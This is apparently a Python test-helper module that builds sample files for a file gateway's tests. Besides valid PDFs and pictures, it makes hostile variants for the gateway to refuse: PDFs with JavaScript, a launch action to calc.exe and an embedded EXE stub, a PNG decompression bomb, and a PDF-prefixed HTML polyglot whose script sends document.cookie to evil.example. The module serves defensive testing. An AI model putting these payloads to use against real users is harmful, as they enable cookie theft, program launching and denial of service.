"""Real files for the tests and benchmarks, made when they run: PDFs that pypdf parses
(with or without text, of an exact size), pictures that Pillow decodes, and the hostile
variants the gateway must refuse (a PDF with JavaScript, a launch action or an embedded file,
an HTML page that starts like a PDF, a truncated picture, a decompression bomb).

Nothing here is a fixture of pytest; tests import the builders (``from sample_files import
pdf``), and ``conftest`` builds its ``PDF`` and ``JPEG`` constants with them.
"""

from __future__ import annotations

import io
import struct
import zlib

import pypdf
from PIL import Image
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

from sandbox.answers import pdf_file  # the one PDF writer of the sandbox and the tests


def _escape(text: str) -> bytes:
    return text.encode("latin-1", "replace").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)")


def pdf(*pages: str, size: int | None = None, seed: bytes = b"", width: int = 4096) -> bytes:
    """A valid PDF 1.4, one A4 page per text in ``pages`` (Helvetica, text a reader can
    extract), or one blank page when none is given (a scan has no text either). With
    ``size``, a page also shows a grey picture (``seed`` repeated, or zero bytes) that makes
    the file exactly ``size`` bytes: a big file with a correct xref, as a scanner writes
    (``width``: the picture's, so that a small ``size`` can be met)."""
    texts = list(pages) or [""]
    objects: list[bytes] = [b"", b""]  # 1: catalog, 2: page tree, filled in below
    kids = []
    picture_at = None
    for number, text in enumerate(texts):
        content = b"BT /F1 12 Tf 72 760 Td (" + _escape(text) + b") Tj ET" if text else b""
        if size is not None and number == 0:
            content += b" q 595 0 0 842 0 0 cm /Im1 Do Q"
        font = len(objects) + 3
        page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents %d 0 R"
                b" /Resources << /Font << /F1 %d 0 R >>%s >> >>"
                % (len(objects) + 2, font, b" /XObject << /Im1 %d 0 R >>" % (font + 1) if size is not None and number == 0 else b""))
        objects.append(page)
        kids.append(len(objects))
        objects.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
        objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
        if size is not None and number == 0:
            picture_at = len(objects)
            objects.append(b"")  # the picture, sized below
    objects[0] = b"<< /Type /Catalog /Pages 2 0 R >>"
    objects[1] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % k for k in kids), len(kids))

    def build(picture_bytes: int) -> bytes:
        if picture_at is not None:
            height = max(1, picture_bytes // width)
            data = (seed * (width * height // max(1, len(seed)) + 1))[:width * height] if seed else bytes(width * height)
            objects[picture_at] = (b"<< /Type /XObject /Subtype /Image /Width %d /Height %d /ColorSpace /DeviceGray"
                              b" /BitsPerComponent 8 /Length %d >>\nstream\n" % (width, height, len(data))
                              + data + b"\nendstream")
        return pdf_file(objects, header=b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")

    if size is None:
        return build(0)
    small = build(width)
    room = size - len(small) + width - 64  # the picture's bytes, leaving room for longer numbers
    if room < width:
        raise ValueError(f"a PDF with a picture is at least {len(small) + 64} bytes")
    out = build(room)
    if len(out) > size:
        raise AssertionError("the picture left too little room")
    return out[:-1] + b" " * (size - len(out)) + b"\n"  # blanks after %%EOF, which every reader allows


def _writer(base: bytes | None = None) -> pypdf.PdfWriter:
    return pypdf.PdfWriter(clone_from=io.BytesIO(base or pdf("Beslut om ditt arende")))


def _written(writer: pypdf.PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _js_action(code: str = "app.alert('hej')") -> DictionaryObject:
    return DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject("/JavaScript"),
                             NameObject("/JS"): TextStringObject(code)})


def pdf_with_javascript(where: str = "names") -> bytes:
    """A readable PDF that runs JavaScript: from the document's names tree (``names``), as
    its open action (``open``), or as an additional action of its page (``page_aa``)."""
    writer = _writer()
    if where == "names":  # what a document-level script is: /Names /JavaScript in the catalog
        tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("hej"),
                                                                     writer._add_object(_js_action())])})
        writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    elif where == "open":
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(_js_action())
    elif where == "page_aa":
        writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(_js_action())})
    else:
        raise ValueError(where)
    return _written(writer)


def pdf_with_launch(*, indirect: bool = False) -> bytes:
    """A readable PDF whose link on page 1 launches a program (with ``indirect``, the action's
    type ``/S`` is an indirect object, as a viewer also reads it)."""
    writer = _writer()
    kind = writer._add_object(NameObject("/Launch")) if indirect else NameObject("/Launch")
    launch = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): kind,
                               NameObject("/F"): TextStringObject("C:\\Windows\\System32\\calc.exe")})
    link = DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(700), FloatObject(300), FloatObject(720)]),
        NameObject("/A"): writer._add_object(launch),
    })
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def pdf_with_embedded_file(how: str = "names") -> bytes:
    """A readable PDF that carries another file: in its names tree (``names``, as a PDF
    portfolio does) or as a file-attachment annotation on page 1 (``annotation``)."""
    writer = _writer()
    payload = b"MZ\x90\x00" + b"\x00" * 60
    if how == "names":
        writer.add_attachment("faktura.exe", payload)
    elif how == "annotation":
        stream = DecodedStreamObject()
        stream.set_data(payload)
        stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
        spec = DictionaryObject({NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("x.exe"),
                                 NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(stream)})})
        note = DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
            NameObject("/Rect"): ArrayObject([FloatObject(72), FloatObject(700), FloatObject(90), FloatObject(720)]),
            NameObject("/FS"): writer._add_object(spec),
        })
        writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(note)])
    else:
        raise ValueError(how)
    return _written(writer)


#: An HTML page whose first bytes are a PDF's: it passes a check of the first bytes only.
POLYGLOT_HTML = (b"%PDF-1.4\n<!DOCTYPE html><html><body><script>document.location='https://evil.example/'"
                 b"+document.cookie</script>1 0 obj<</Type/Catalog>>endobj</body></html>\n%%EOF\n")


def picture(kind: str, width: int = 64, height: int = 48) -> bytes:
    """A real picture Pillow wrote: ``kind`` PNG, GIF or JPEG, with some detail in it (so
    that a truncated copy really lacks pixel data)."""
    image = Image.new("RGB", (width, height), (40, 120, 200))
    pixels = image.load()
    for x in range(width):
        for y in range(height):
            if (x * 7 + y * 13) % 11 < 4:
                pixels[x, y] = ((x * 37) % 256, (y * 59) % 256, ((x + y) * 17) % 256)
    out = io.BytesIO()
    image.save(out, format=kind)
    return out.getvalue()


def png_claiming(width: int, height: int) -> bytes:
    """A small PNG whose header claims ``width`` × ``height`` pixels (a decompression bomb:
    decoding it would allocate width × height × 3 bytes)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = zlib.compress(b"\x00" * (1 + width * 3) * 4, 9)  # a few rows; the rest would follow
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", rows) + chunk(b"IEND", b""))
